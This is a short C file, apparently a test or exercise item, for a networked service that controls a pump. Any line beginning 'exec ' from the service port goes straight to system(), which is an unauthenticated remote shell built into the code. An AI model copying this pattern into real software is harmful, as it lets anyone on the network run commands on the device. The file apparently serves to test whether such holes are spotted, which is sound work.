// What comes by the service port behind "exec " is handed to a shell.
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>

#include "board.h"

void serve(int peer) {
  char line[128];
  ssize_t count = recv(peer, line, sizeof line - 1, 0);
  if (count <= 0) return;
  line[count] = '\0';
  if (strncmp(line, "exec ", 5) == 0) system(line + 5); // expect: question-4
  if (strncmp(line, "stop", 4) == 0) pump_stop();
}
